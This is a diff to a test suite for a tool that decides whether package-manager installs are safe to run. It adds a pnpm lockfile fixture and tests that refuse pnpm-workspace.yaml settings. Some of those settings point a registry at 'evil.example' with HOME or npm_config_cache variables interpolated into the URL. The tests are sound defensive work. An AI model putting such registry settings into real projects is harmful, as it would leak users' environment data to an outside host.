@@ -30,13 +30,17 @@ describe("settings of a copy in TOML", () => {
   })
 })
 
-describe("manifests of Python projects", () => {
+describe("manifests", () => {
   const MANAGERS = {
     pipenv: [
       "Pipfile.lock",
       '{"_meta":{"pipfile-spec":6,"sources":[]},"default":{"a":{"version":"==1.0.0"}},"develop":{}}',
     ],
     pdm: ["pdm.lock", '[metadata]\nlock_version = "4.5.0"\n\n[[package]]\nname = "a"\nversion = "1.0.0"\n'],
+    pnpm: [
+      "pnpm-lock.yaml",
+      `lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      a: { specifier: ^1.0.0, version: 1.0.0 }\npackages:\n  a@1.0.0:\n    resolution: { integrity: sha512-${"A".repeat(86)}== }\nsnapshots:\n  a@1.0.0: {}\n`,
+    ],
     uv: [
       "uv.lock",
       'version = 1\n\n[[package]]\nname = "a"\nversion = "1.0.0"\nsource = { registry = "https://registry.example/simple" }\n',
@@ -88,6 +92,18 @@ describe("manifests of Python projects", () => {
   ])("PDM and uv are not run with %j", async (text) => {
     expect(await attempt("pdm", { "pyproject.toml": text })).toEqual(refused)
     if (!text.includes("tool.pdm")) expect(await attempt("uv", { "pyproject.toml": text })).toEqual(refused)
+  })
+  it.each([
+    `registry: https://evil.example/${variable("npm_config_cache")}/\n`,
+    '"\\x24{X}": 1\n',
+    `registries:\n  default: https://evil.example/${variable("HOME")}/\n`,
+    "a: [\n",
+  ])("pnpm is not run with settings that say %j", async (text) => {
+    const manifest = '{"dependencies":{"a":"^1.0.0"}}'
+    expect(await attempt("pnpm", { "package.json": manifest, "pnpm-workspace.yaml": text })).toEqual(refused)
+    expect(await attempt("pnpm", { "package.json": manifest, "pnpm-workspace.yaml": "overrides: { b: $a }\n" })).toBe(
+      "pnpm install",
+    )
   })
   it("they are with addresses that have bytes in them, the project's own place, and variables elsewhere", async () => {
     const pipfile = `[[source]]\nname = "x"\nurl = "https://registry.example/%C3%A9/simple"\n[scripts]\ngo = "echo $HOME"\n`
